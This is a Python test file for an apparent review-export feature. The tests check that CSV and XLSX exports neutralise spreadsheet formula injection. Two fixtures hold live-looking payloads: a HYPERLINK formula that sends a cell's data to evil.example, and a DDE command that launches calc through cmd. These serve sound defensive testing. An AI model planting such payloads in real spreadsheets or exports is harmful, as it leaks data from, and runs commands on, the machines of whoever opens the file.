"""Spreadsheet exports neutralise formulas (公式注入): CSV and XLSX, one helper."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from matchmaker.exports import safe_cell
from matchmaker.review.models import Match
from tests import factories as f

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'
DDE = "+cmd|' /C calc'!A0"


def _export(as_user, db, fmt):
    need = f.need(HYPERLINK, region="郑州")
    result = f.result(DDE)
    db.session.add(Match(need_id=need.id, result_id=result.id, source="manual", stage="proposed", score=0.5))
    broker = f.user("broker")
    db.session.commit()
    resp = as_user(broker).get(f"/review/export.{fmt}")
    assert resp.status_code == 200
    return resp.data


def test_csv_export_writes_formulas_as_text(as_user, db):
    rows = list(csv.reader(io.StringIO(_export(as_user, db, "csv").decode("utf-8-sig"))))
    cells = [c for row in rows[1:] for c in row]
    assert "'" + HYPERLINK in cells and "'" + DDE in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


def test_xlsx_export_has_no_live_formula(as_user, db):
    wb = load_workbook(io.BytesIO(_export(as_user, db, "xlsx")))
    cells = [c for row in wb.active.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    values = [c.value for c in cells]
    assert "'" + HYPERLINK in values and "'" + DDE in values


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("数控机床", "数控机床"),
        (-5, -5),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
